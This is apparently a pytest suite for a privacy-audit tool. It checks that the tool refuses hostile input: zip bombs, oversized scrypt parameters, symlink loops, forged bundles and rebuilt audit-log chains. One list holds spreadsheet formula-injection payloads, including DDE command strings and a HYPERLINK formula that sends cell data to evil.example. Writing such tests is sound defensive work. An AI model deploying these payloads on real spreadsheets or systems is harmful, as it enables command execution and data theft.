"""Hostile input and insider tampering (issue 18): every case is built for real in tmp_path.

Secrets typed on the command line, outputs aimed at the estate's own files, zip bombs and absurd
scrypt headers, symlink loops, spreadsheet formulas in exported cells, colliding bundle member
names; each must be refused (exit 2, one line) or neutralised, within bounded time and memory.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from privacy_audit import access
from privacy_audit.access import BUNDLE_MAGIC, encrypt_with_password, verify_bundle
from privacy_audit.cli import run_guarded
from privacy_audit.errors import BundleError, InputError

SAMPLES = Path(__file__).resolve().parents[1] / "data_samples"
_USERS = pd.read_csv(SAMPLES / "exports" / "users_backup.csv", dtype=str)
EMAIL = _USERS.iloc[0]["email"]
PW = "correct horse battery"


@pytest.fixture
def estate(tmp_path, monkeypatch):
    root = tmp_path / "e"
    shutil.copytree(SAMPLES, root, ignore=shutil.ignore_patterns("__pycache__", "audit_log.jsonl", "generate.py"))
    (tmp_path / "pw").write_text(PW + "\n")
    monkeypatch.delenv("PRIVACY_AUDIT_BUNDLE_PASSWORD", raising=False)
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    return root


def _run(args, capsys) -> tuple[int, str, str]:
    code = run_guarded([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def _one_line_error(code: int, err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert code == 2, err
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


# ----------------------------------------------------------------------------- 15: secrets in argv


@pytest.mark.parametrize("args", [
    ["verify-bundle", "{tmp}/b.zip", "--password", "hunter2hunter2"],
    ["verify-bundle", "--password", "hunter2hunter2", "{tmp}/b.zip"],
    ["export", "{tmp}/e/datamap.yaml", "--password", "hunter2hunter2", "--subject", "token=x", "--out", "{tmp}/o.zip.enc"],
    ["export", "--ask-password", "hunter2hunter2", "{tmp}/e/datamap.yaml", "--subject", "token=x", "--out", "o.zip.enc"],
])  # fmt: skip
def test_a_password_typed_after_the_flag_is_refused_and_never_echoed(estate, tmp_path, capsys, args):
    (tmp_path / "b.zip.enc").write_bytes(b"not a bundle")
    code, out, err = _run([a.format(tmp=tmp_path) for a in args], capsys)
    line = _one_line_error(code, err)
    assert "hunter2hunter2" not in out + err
    assert "--password" in line or "--ask-password" in line
    assert not (tmp_path / "o.zip.enc").exists()


def test_usage_errors_are_one_line(capsys):
    code, _, err = _run(["scan", "--sample", "0", "x"], capsys)
    assert "--sample" in _one_line_error(code, err)
    code, _, err = _run(["datamap", "validate", "a.yaml", "stray-value"], capsys)
    line = _one_line_error(code, err)
    assert "stray-value" not in line  # a stray argument may be a secret or a personal value


def test_new_bundles_need_a_real_password_and_strong_scrypt():
    with pytest.raises(InputError, match="too short"):
        encrypt_with_password(b"data", "a")
    blob = encrypt_with_password(b"data", PW)
    header = json.loads(blob[len(BUNDLE_MAGIC) : blob.index(b"\n", len(BUNDLE_MAGIC))])
    assert header["n"] >= 2**17 and header["r"] >= 8


def test_export_refuses_a_short_password_before_searching(estate, tmp_path, capsys):
    (tmp_path / "short").write_text("abc\n")
    args = ["export", estate / "datamap.yaml", "--subject", f"email={EMAIL}", "--out", tmp_path / "b.zip.enc",
            "--password-file", tmp_path / "short", "--no-audit-log"]  # fmt: skip
    code, _, err = _run(args, capsys)
    assert "too short" in _one_line_error(code, err)
    assert not (tmp_path / "b.zip.enc").exists()


# ---------------------------------------------------------------------- 7: outputs onto the estate


@pytest.mark.parametrize("target", [
    "datamap.yaml", "identity/identity.vault", "audit_log.jsonl", "keys/vault.key",
    "support/tickets.csv", "consent/consents.csv", "identity/../support/./tickets.csv",
])  # fmt: skip
def test_export_never_overwrites_a_file_of_the_estate(estate, tmp_path, capsys, target):
    log = estate / "audit_log.jsonl"
    log.write_bytes(b"")  # an empty log, appendable
    path = estate / target
    before = path.read_bytes()
    args = ["export", estate / "datamap.yaml", "--subject", f"email={EMAIL}", "--out", path,
            "--password-file", tmp_path / "pw"]  # fmt: skip
    code, _, err = _run(args, capsys)
    assert "of the estate" in _one_line_error(code, err)
    assert path.read_bytes() == before
    assert log.read_bytes() == b""


def test_ropa_never_overwrites_the_policy(estate, tmp_path, capsys):
    before = (estate / "policy.md").read_bytes()
    code, _, err = _run(["datamap", "ropa", estate / "datamap.yaml", "--out", estate / "policy.md"], capsys)
    # (an existing --out may be refused for existing first; either way nothing is replaced)
    assert code == 2 and (estate / "policy.md").read_bytes() == before, err


# ----------------------------------------------------------------------------- 9: hostile bundles


def _zip_with(members: dict[str, bytes], path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def test_a_zip_bomb_is_refused_from_its_directory(tmp_path):
    zeros = b"\0" * (64 * 1024 * 1024)  # deflates about 1000:1
    manifest = json.dumps({"files": {"big.csv": hashlib.sha256(zeros).hexdigest()}}).encode()
    bomb = _zip_with({"manifest.json": manifest, "big.csv": zeros}, tmp_path / "bomb.zip")
    assert bomb.stat().st_size < 1024 * 1024
    with pytest.raises(BundleError, match="expands more than"):
        verify_bundle(bomb)


def test_a_zip_with_too_many_members_is_refused(tmp_path):
    members = {f"m{i}.txt": b"" for i in range(access.MAX_MEMBERS + 1)}
    members["manifest.json"] = b'{"files": {}}'
    with pytest.raises(BundleError, match="members"):
        verify_bundle(_zip_with(members, tmp_path / "many.zip"))


def test_a_zip_whose_total_size_is_too_large_is_refused(tmp_path, monkeypatch):
    data = bytes(range(256)) * 4096  # 1 MiB that does not compress: only the total limit applies
    members = {"manifest.json": b'{"files": {}}', "a.bin": data, "b.bin": data}
    path = _zip_with(members, tmp_path / "big.zip")
    monkeypatch.setattr(access, "MAX_TOTAL_BYTES", 1536 * 1024)
    with pytest.raises(BundleError, match="would expand"):
        verify_bundle(path)


def test_absurd_scrypt_parameters_are_refused_before_deriving(tmp_path, capsys):
    header = {"mode": "password", "kdf": "scrypt", "n": 2**20, "r": 8, "p": 1, "salt": "AAAAAAAAAAAAAAAAAAAAAA==",
              "cipher": "AES-256-GCM", "nonce": "AAAAAAAAAAAAAAAA", "key_check": "AAAAAAAAAAAAAAAAAAAAAA=="}
    blob = BUNDLE_MAGIC + json.dumps(header, sort_keys=True, separators=(",", ":")).encode() + b"\n" + b"x" * 64
    path = tmp_path / "fake.bundle"
    path.write_bytes(blob)
    assert len(blob) < 400
    with pytest.raises(BundleError, match="scrypt"):
        verify_bundle(path, password=PW)
    code, _, err = _run(["verify-bundle", path, "--password-file", _pw(tmp_path)], capsys)
    assert "scrypt" in _one_line_error(code, err)


def test_a_deeply_nested_bundle_header_is_refused(tmp_path, capsys):
    path = tmp_path / "nested.bundle"
    path.write_bytes(BUNDLE_MAGIC + b"[" * 3000 + b"]" * 3000 + b"\n" + b"x" * 64)
    code, _, err = _run(["verify-bundle", path, "--password-file", _pw(tmp_path)], capsys)
    _one_line_error(code, err)


def _pw(tmp_path: Path) -> Path:
    p = tmp_path / "pw"
    p.write_text(PW + "\n")
    return p


@pytest.mark.parametrize("manifest", [
    b'{"files": {"a": 1}}', b'{"files": [], "datasets": 3}', b'{"files": {}, "datasets": [1, 2]}',
    b"[" * 100_000 + b"]" * 100_000, b'"just a string"',
])  # fmt: skip
def test_malformed_manifests_are_reported_not_crashed_on(tmp_path, capsys, manifest):
    path = _zip_with({"manifest.json": manifest}, tmp_path / "m.zip")
    code, out, err = _run(["verify-bundle", path], capsys)
    assert code in (1, 2), err
    assert "internal error" not in err and "Traceback" not in err


# ------------------------------------------------------------- 11, 12: formulas and member names

_HOSTILE_MAP = """\
organization: Test Co
datasets:
  - name: manifest
    path: manifest.csv
    zone: pseudonymous
    subject_key: user_token
  - name: events
    path: events.csv
    zone: pseudonymous
    subject_key: user_token
  - name: events!
    path: events_bang.csv
    zone: pseudonymous
    subject_key: user_token
  - name: Events
    path: events_upper.csv
    zone: pseudonymous
    subject_key: user_token
"""
_FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def _hostile_estate(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "datamap.yaml").write_text(_HOSTILE_MAP)
    rows = [("u_000001", f, "-12.5", "+1 415 555 0100") for f in _FORMULAS] + [("u_000002", "=1+1", "1", "x")]
    frame = pd.DataFrame(rows, columns=["user_token", "note", "amount", "phone"])
    frame.to_csv(root / "events.csv", index=False)
    frame.iloc[:2].to_csv(root / "manifest.csv", index=False)
    frame.iloc[2:4].to_csv(root / "events_bang.csv", index=False)
    frame.iloc[4:5].to_csv(root / "events_upper.csv", index=False)
    return root / "datamap.yaml"


def _bundle_files(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


@pytest.fixture
def hostile_bundle(tmp_path, capsys):
    dm = _hostile_estate(tmp_path / "h")
    out = tmp_path / "b.zip.enc"
    code, _, err = _run(["export", dm, "--subject", "token=u_000001", "--out", out, "--no-audit-log"], capsys)
    assert code == 0, err
    return out


def test_formulas_in_exported_csvs_are_neutralised(hostile_bundle):
    files = _bundle_files(hostile_bundle)
    csvs = [n for n in files if n.endswith(".csv")]
    assert csvs
    cells = []
    for name in csvs:
        frame = pd.read_csv(io.BytesIO(files[name]), dtype=str, keep_default_na=False)
        cells += [v for col in frame.columns for v in frame[col]]
    formulas = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas and set(formulas) <= {"-12.5", "+1 415 555 0100"}, formulas  # signed numbers stay numbers
    assert sum(v.startswith("'=") or v.startswith("'@") or v.startswith("'+") for v in cells) >= 5
    # the JSON copy keeps the subject's values exactly as held
    records = json.loads(files["events.json"])
    assert {r["note"] for r in records} == set(_FORMULAS)


def test_bundle_member_names_never_collide(hostile_bundle, capsys):
    files = _bundle_files(hostile_bundle)
    manifest = json.loads(files["manifest.json"])
    assert manifest["format"] == "privacy-audit-subject-access-bundle"
    by_name = {d["name"]: d for d in manifest["datasets"]}
    assert set(by_name) == {"manifest", "events", "events!", "Events"}
    members = [f for d in manifest["datasets"] for f in d["files"]]
    assert len({m.casefold() for m in members}) == len(members) == 8
    for name, n in (("manifest", 2), ("events", len(_FORMULAS)), ("events!", 2), ("Events", 1)):
        entry = by_name[name]
        assert entry["records"] == n
        assert len(json.loads(files[entry["files"][0]])) == n, name  # every row of every dataset is there
    code, out, err = _run(["verify-bundle", hostile_bundle], capsys)
    assert code == 0 and out.startswith("ok:"), out + err


def test_verify_bundle_prints_member_names_escaped(tmp_path, capsys):
    forged = "x.csv\nok: 12 files match the manifest"
    path = _zip_with({"manifest.json": b'{"files": {}}', forged: b"added"}, tmp_path / "forged.zip")
    code, out, err = _run(["verify-bundle", path], capsys)
    assert code == 1
    assert not any(line.startswith("ok:") for line in out.splitlines()), out
    assert "\\n" in out


# ------------------------------------------------------------------------------ 10: symlink loops


def test_scan_walks_symlink_loops_once_and_lists_each_table_once(tmp_path):
    import os
    import subprocess
    import sys

    root = tmp_path / "lake"
    (root / "sub").mkdir(parents=True)
    pd.DataFrame({"user_token": ["u_1", "u_2"], "city": ["Lyon", "Oslo"]}).to_csv(root / "a.csv", index=False)
    pd.DataFrame({"user_token": ["u_3"], "plan": ["pro"]}).to_csv(root / "sub" / "b.csv", index=False)
    os.symlink("..", root / "sub" / "up")  # loop to the parent
    os.symlink(".", root / "sub" / "self")  # loop to itself
    os.symlink(root, root / "sub" / "abs")  # loop through an absolute path
    os.symlink("a.csv", root / "same_as_a.csv")  # one file under two names
    os.symlink("nowhere", root / "dangling.csv")

    from privacy_audit.sources import list_tables

    exe = Path(sys.executable).with_name("privacy-audit")
    proc = subprocess.run([str(exe), "scan", str(root), "--format", "json"], capture_output=True, text=True,
                          timeout=300, cwd=tmp_path)  # fmt: skip
    assert proc.returncode in (0, 1), proc.stderr
    tables = list_tables(root)
    assert sorted(p.name for p in tables) == ["a.csv", "b.csv"], tables
    datasets = {c["dataset"] for c in json.loads(proc.stdout)}
    assert {Path(d).name for d in datasets} == {"a.csv", "b.csv"} and len(datasets) == 2, datasets


# ------------------------------------------------------------------ 13: third parties in free text


def test_every_third_party_in_the_sample_tickets_is_redacted():
    """All 42 tickets that name a third person (the generator's own truth), not one of each kind."""
    import sys

    from privacy_audit.access import redact_rows
    from privacy_audit.datamap import load_datamap
    from privacy_audit.subjects import resolve_subject

    sys.path.insert(0, str(SAMPLES))
    import generate

    truth = generate.build().truth["tickets_with_third_party"]
    assert len(truth) >= 40
    dm = load_datamap(SAMPLES / "datamap.yaml")
    tickets = pd.read_csv(SAMPLES / "support" / "tickets.csv", dtype=str)
    leaked = 0
    for tid, third in truth.items():
        rows = tickets[tickets.ticket_id == tid]
        subject = resolve_subject(dm, "token", rows.iloc[0]["user_token"])
        body = redact_rows(rows, ["body"], subject)[0].iloc[0]["body"]
        leaked += sum(value in body for value in third.values())
    assert leaked == 0, f"{leaked} third-party values reach the requester"


@pytest.mark.parametrize("text", [
    "My colleague Ysolde Brankovičová has the same problem on their phone.",
    "My daughter Ottoline Vereecken-Paz uses the same tablet, please don't send anything to her.",
    "Please stop the mails to my neighbour, called Tiberiu Aldescu.",
])  # fmt: skip
def test_a_name_after_a_relation_word_is_redacted_even_when_ner_does_not_know_it(text):
    from privacy_audit.access import redact_rows
    from privacy_audit.subjects import Subject

    me = Subject(subject_id="u_1", found=True, kinds_used=("token",), ref="sref_x",
                 identifiers={"names": frozenset({"Ann Lee"}), "tokens": frozenset({"u_1"})})  # fmt: skip
    rows = pd.DataFrame({"body": [text + " Regards, Ann Lee"]})
    out, counts = redact_rows(rows, ["body"], me)
    body = out.iloc[0]["body"]
    assert "[REDACTED PERSON]" in body and counts.get("PERSON", 0) >= 1
    name = text.split("olleague ")[-1].split("aughter ")[-1].split("called ")[-1].split(" ")[0]
    assert name not in body
    assert body.endswith("Regards, Ann Lee")  # the requester's own name is theirs to read


# ----------------------------------------------- 14: integrity an insider without the keys cannot fake

from privacy_audit import auditlog  # noqa: E402
from privacy_audit.datamap import load_datamap  # noqa: E402
from privacy_audit.errors import VaultError  # noqa: E402
from privacy_audit.vault import Vault, audit_key_for_datamap, encode_key, generate_key, load_key  # noqa: E402


def _rechain(lines: list[dict], *, strip_mac: bool = False) -> bytes:
    """What an insider without the key can do: renumber, relink and rehash every entry."""
    out, prev = [], auditlog.GENESIS
    for seq, entry in enumerate(lines, start=1):
        entry = {k: v for k, v in entry.items() if k != "hash" and not (strip_mac and k == "mac")}
        entry.update(seq=seq, prev=prev)
        entry["hash"] = auditlog.entry_hash(entry)
        line = auditlog.canonical_json(entry)
        prev = hashlib.sha256(line).hexdigest()
        out.append(line + b"\n")
    return b"".join(out)


@pytest.fixture
def keyed_log(estate):
    dm = load_datamap(estate / "datamap.yaml")
    key = audit_key_for_datamap(dm)
    assert key is not None
    log = dm.audit_log_path
    for i in range(5):
        auditlog.append(log, "export", subject_ref=f"sref_{i:032x}", details={"records": i}, outcome="ok", key=key)
    return estate, log


def test_an_entry_removed_and_the_chain_rebuilt_shows_with_the_key(keyed_log, capsys):
    estate, log = keyed_log
    entries = auditlog.read(log)
    log.write_bytes(_rechain(entries[:2] + entries[3:]))
    assert _run(["log", "verify", log], capsys)[0] == 0  # the plain chain cannot tell
    code, out, err = _run(["log", "verify", log, "--datamap", estate / "datamap.yaml"], capsys)
    assert code == 1 and "entry 3" in out and "MAC" in out, out + err


def test_stripped_macs_show_with_require_keyed(keyed_log, capsys):
    estate, log = keyed_log
    entries = auditlog.read(log)
    log.write_bytes(_rechain(entries[:2] + entries[3:], strip_mac=True))
    args = ["log", "verify", log, "--datamap", estate / "datamap.yaml", "--require-keyed"]
    code, out, err = _run(args, capsys)
    assert code == 1 and "entry 1" in out, out + err
    # a MAC stripped after keyed entries is a downgrade even without --require-keyed
    log.write_bytes(_rechain(entries[:2] + [{k: v for k, v in entries[2].items() if k != "mac"}] + entries[3:]))
    code, out, _ = _run(["log", "verify", log, "--datamap", estate / "datamap.yaml"], capsys)
    assert code == 1 and "entry 3" in out


def test_a_cut_log_shows_against_the_head_a_bundle_carries(keyed_log, tmp_path, capsys):
    estate, log = keyed_log
    out = tmp_path / "b.zip.enc"
    code, _, err = _run(["export", estate / "datamap.yaml", "--subject", f"email={EMAIL}", "--out", out], capsys)
    assert code == 0, err
    manifest = json.loads(_bundle_files(out)["manifest.json"])
    recorded = manifest["audit_log"]
    assert recorded["entries"] == 5
    lines = log.read_bytes().splitlines(keepends=True)
    assert hashlib.sha256(lines[4].rstrip(b"\n")).hexdigest() == recorded["head"]
    log.write_bytes(b"".join(lines[:3]))  # the last three entries (the export's own too) cut off
    assert _run(["log", "verify", log], capsys)[0] == 0
    code, text, _ = _run(["log", "verify", log, "--expect-head", recorded["head"]], capsys)
    assert code == 1 and "head" in text


def test_a_plain_bundle_rewritten_and_rehashed_fails_with_the_estate_key(estate, tmp_path, capsys):
    out = tmp_path / "b.zip.enc"
    args = ["export", estate / "datamap.yaml", "--subject", f"email={EMAIL}", "--out", out, "--no-audit-log"]
    assert _run(args, capsys)[0] == 0
    files = _bundle_files(out)
    assert "manifest.mac" in files
    ticket = next(n for n in files if n.startswith("tickets") and n.endswith(".json"))
    files[ticket] = b"[]\n"  # the tickets emptied, every hash recomputed
    manifest = json.loads(files["manifest.json"])
    manifest["files"][ticket] = hashlib.sha256(files[ticket]).hexdigest()
    for entry in manifest["datasets"]:
        if ticket in entry["sha256"]:
            entry["sha256"][ticket] = manifest["files"][ticket]
    files["manifest.json"] = json.dumps(manifest).encode()
    forged = _zip_with(files, tmp_path / "forged.zip")
    code, text, _ = _run(["verify-bundle", forged], capsys)
    assert code == 0 and "not checked" in text  # without the key only the hashes can be checked
    code, text, err = _run(["verify-bundle", forged, "--datamap", estate / "datamap.yaml"], capsys)
    assert code == 1 and "MAC" in text, text + err
    code, text, err = _run(["verify-bundle", out, "--datamap", estate / "datamap.yaml"], capsys)
    assert code == 0 and "MAC verified" in text, text + err


def _small_vault(tmp_path: Path) -> tuple[Path, Path, bytes]:
    key = generate_key()
    key_file = tmp_path / "vault.key"
    key_file.write_text(encode_key(key) + "\n")
    v = Vault.create(tmp_path / "identity.vault", key)
    for i, who in enumerate(("ann", "bob", "cy"), start=1):
        v.put(f"u_{i}", {"email": f"{who}@example.org", "name": who.title() + " Example"})
    v.save()
    return v.path, key_file, key


def test_a_shredded_record_cannot_be_read_from_an_earlier_copy(tmp_path, capsys):
    path, key_file, old_key = _small_vault(tmp_path)
    backup = tmp_path / "backup.vault"
    backup.write_bytes(path.read_bytes())
    code, out, err = _run(["vault", "shred", path, "u_2", "--key-file", key_file], capsys)
    assert code == 0, err
    current = load_key(key_file)
    assert current != old_key  # the key that could open the backup no longer exists
    with pytest.raises(VaultError):
        Vault.open(backup, current).get("u_2")
    v = Vault.open(path, current)
    assert v.ids() == ["u_1", "u_3"] and v.get("u_3")["email"] == "cy@example.org"
    assert not list(tmp_path.glob("*.new"))


def test_shred_without_a_replaceable_key_is_refused(tmp_path, capsys, monkeypatch):
    path, key_file, key = _small_vault(tmp_path)
    before = path.read_bytes()
    monkeypatch.setenv("PRIVACY_AUDIT_VAULT_KEY", encode_key(key))
    code, _, err = _run(["vault", "shred", path, "u_2"], capsys)
    assert "--new-key-file" in _one_line_error(code, err)
    assert path.read_bytes() == before


def test_a_replayed_older_vault_is_refused(tmp_path, capsys):
    key_file = tmp_path / "vault.key"
    key_file.write_text(encode_key(generate_key()) + "\n")
    log = tmp_path / "audit_log.jsonl"
    users = _USERS[["email", "name"]].head(6)
    users.iloc[:3].to_csv(tmp_path / "a.csv", index=False)
    users.iloc[3:].to_csv(tmp_path / "b.csv", index=False)
    vault = tmp_path / "identity.vault"

    def pseudonymize(src: str, out: str) -> tuple[int, str]:
        args = ["pseudonymize", tmp_path / src, "--vault", vault, "--key-file", key_file, "--out", tmp_path / out,
                "--columns", "email,name", "--audit-log", log]  # fmt: skip
        code, _, err = _run(args, capsys)
        return code, err

    assert pseudonymize("a.csv", "a_out.csv")[0] == 0
    old_copy = vault.read_bytes()
    assert pseudonymize("b.csv", "b_out.csv")[0] == 0
    vault.write_bytes(old_copy)  # the insider puts the older vault back
    with pytest.raises(VaultError, match="older copy"):
        Vault.open(vault, load_key(key_file), audit_log=log)
    code, err = pseudonymize("a.csv", "c_out.csv")
    assert "older copy" in _one_line_error(code, err)
    # every command that loads the estate's vault key refuses it too, not only the vault commands
    (tmp_path / "datamap.yaml").write_text(_HMAC_MAP.replace("sessions.csv", "a_out.csv").replace("user_hash", "subject_token"))
    code, _, err = _run(["export", tmp_path / "datamap.yaml", "--subject", f"email={users.iloc[0]['email']}",
                         "--out", tmp_path / "b.zip.enc"], capsys)  # fmt: skip
    assert "older copy" in _one_line_error(code, err)
    assert not (tmp_path / "b.zip.enc").exists()


# -------------------------------------------------------------- 4: rotation keeps keyed pseudonyms

_HMAC_MAP = """\
organization: Test Co
vault:
  path: identity.vault
  key_file: vault.key
datasets:
  - name: identity
    path: identity.vault
    format: vault
    zone: identified
    subject_key: user_token
    columns: {email: EMAIL_ADDRESS, name: PERSON}
  - name: sessions
    path: sessions.csv
    zone: pseudonymous
    subject_key: user_hash
    pseudonym: {kind: hmac, of: email}
"""


def test_rotation_never_changes_keyed_pseudonyms(tmp_path, capsys):
    from privacy_audit.vault import pseudonym, pseudonym_key

    path, key_file, key = _small_vault(tmp_path)
    (tmp_path / "datamap.yaml").write_text(_HMAC_MAP)
    v = Vault.open(path, key)
    rows = [(v.pseudonym(e), page) for e, page in
            (("ann@example.org", "/a"), ("ann@example.org", "/b"), ("bob@example.org", "/c"))]  # fmt: skip
    pd.DataFrame(rows, columns=["user_hash", "page"]).to_csv(tmp_path / "sessions.csv", index=False)

    def sessions_found(extra: list) -> int:
        args = ["export", tmp_path / "datamap.yaml", "--subject", "email=ann@example.org", "--out",
                tmp_path / "b.zip.enc", "--no-audit-log", *extra]  # fmt: skip
        code, _, err = _run(args, capsys)
        assert code == 0, err
        manifest = json.loads(_bundle_files(tmp_path / "b.zip.enc")["manifest.json"])
        return next(d["records"] for d in manifest["datasets"] if d["name"] == "sessions")

    assert sessions_found([]) == 2
    new_key = tmp_path / "new.key"
    assert _run(["vault", "keygen", new_key], capsys)[0] == 0
    code, _, err = _run(["vault", "rotate", path, "--key-file", key_file, "--new-key-file", new_key], capsys)
    assert code == 0, err
    assert sessions_found(["--vault-key-file", new_key]) == 2
    assert pseudonym_key(load_key(new_key), path) == pseudonym_key(key, None)
    assert pseudonym("ann@example.org", load_key(new_key), vault=path) == v.pseudonym("ann@example.org")


# ------------------------------------------------------------------------- low: one line, exit 2

_BASE_MAP = """\
organization: Test Co
datasets:
  - name: people
    path: people.csv
    zone: identified
    subject_key: user_token
    columns: {email: EMAIL_ADDRESS}
"""


@pytest.mark.parametrize("extra, expected", [
    ("vault:\n  path: v.vault\n  key_file: [a, b]\n", "vault.key_file"),
    ("    free_text: 7\n", "free_text"),
    ("    legal_retention_days: lots\n", "legal_retention_days"),
    ("    retention_days: 99999999999\n", "retention_days"),
    ("    pseudonym: {kind: [hmac]}\n", "pseudonym.kind"),
    ("    erasure: {action: keep, legal_retention_days: 1e400}\n", "legal_retention_days"),
    ("extra_nesting: " + "[" * 5000 + "]" * 5000 + "\n", "nested"),
])  # fmt: skip
def test_datamap_values_later_commands_would_crash_on_are_refused_at_load(tmp_path, capsys, extra, expected):
    (tmp_path / "people.csv").write_text("user_token,email\nu_1,ann@example.org\n")
    text = _BASE_MAP + extra if extra.startswith("    ") else extra + _BASE_MAP
    (tmp_path / "datamap.yaml").write_text(text)
    for cmd in (["datamap", "validate"], ["check"]):
        code, _, err = _run([*cmd, tmp_path / "datamap.yaml"], capsys)
        assert expected in _one_line_error(code, err)


def test_a_relative_sqlite_url_is_the_data_maps_folder_and_never_creates_a_database(tmp_path, capsys, monkeypatch):
    import sqlite3

    estate, elsewhere = tmp_path / "estate", tmp_path / "elsewhere"
    estate.mkdir()
    elsewhere.mkdir()
    with sqlite3.connect(estate / "crm.db") as conn:
        conn.execute("CREATE TABLE people (user_token text, email text)")
        conn.execute("INSERT INTO people VALUES ('u_1', 'ann@example.org'), ('u_2', 'bob@example.org')")
    (estate / "datamap.yaml").write_text(_BASE_MAP.replace("path: people.csv", "url: sqlite:///crm.db\n    table: people"))
    monkeypatch.chdir(elsewhere)
    out = tmp_path / "b.zip.enc"
    args = ["export", estate / "datamap.yaml", "--subject", "email=ann@example.org", "--out", out, "--no-audit-log"]
    code, _, err = _run(args, capsys)
    assert code == 0, err
    manifest = json.loads(_bundle_files(out)["manifest.json"])
    assert manifest["datasets"][0]["records"] == 1
    assert list(elsewhere.iterdir()) == []
    (estate / "datamap.yaml").write_text(_BASE_MAP.replace("path: people.csv", "url: sqlite:///nope.db\n    table: people"))
    code, _, err = _run(["datamap", "validate", estate / "datamap.yaml"], capsys)
    assert "does not exist" in _one_line_error(code, err)
    assert list(elsewhere.iterdir()) == [] and not (estate / "nope.db").exists()


def test_an_impossible_birth_date_is_bad_input_not_nothing_to_erase(estate, capsys):
    code, _, err = _run(["erase", estate / "datamap.yaml", "--subject", "name=Ann Example|1949-13-45"], capsys)
    assert "date of birth" in _one_line_error(code, err)


def test_an_all_zero_recipient_key_is_bad_input(estate, tmp_path, capsys):
    import base64

    args = ["export", estate / "datamap.yaml", "--subject", f"email={EMAIL}", "--out", tmp_path / "b.zip.enc",
            "--recipient", base64.b64encode(bytes(32)).decode(), "--no-audit-log"]  # fmt: skip
    code, _, err = _run(args, capsys)
    assert "X25519" in _one_line_error(code, err)
    assert not (tmp_path / "b.zip.enc").exists()


def test_a_deeply_nested_audit_log_line_is_reported_not_crashed_on(tmp_path, capsys):
    log = tmp_path / "audit_log.jsonl"
    log.write_bytes(b"[" * 100_000 + b"]" * 100_000 + b"\n")
    code, out, err = _run(["log", "verify", log], capsys)
    assert code == 1 and "entry 1" in out, err
    code, _, err = _run(["log", "show", log], capsys)
    _one_line_error(code, err)
    with pytest.raises(Exception) as exc:
        auditlog.append(log, "export", subject_ref="sref_x", details={})
    assert "RecursionError" not in type(exc.value).__name__


def test_an_unknown_subjects_reference_without_a_key_is_not_a_hash_of_their_email(tmp_path):
    from privacy_audit.subjects import resolve_subject

    (tmp_path / "people.csv").write_text("user_token,email\nu_1,ann@example.org\n")
    (tmp_path / "datamap.yaml").write_text(_BASE_MAP)
    dm = load_datamap(tmp_path / "datamap.yaml")
    email = "stranger@example.org"
    a, b = resolve_subject(dm, "email", email), resolve_subject(dm, "email", email)
    assert not a.found
    for basis in (email, f"email:{email}"):
        assert hashlib.sha256(basis.encode()).hexdigest()[:32] not in a.ref
    assert a.ref != b.ref  # random: nothing to reverse by hashing candidate addresses


def test_a_first_row_longer_than_the_header_is_refused_not_shifted(tmp_path):
    from privacy_audit.sources import read_table

    path = tmp_path / "shifted.csv"
    path.write_text("user_token,email\nu_1,ann@example.org,extra\nu_2,bob@example.org\n")
    with pytest.raises(InputError, match="row 2 has 3 fields"):
        read_table(path)
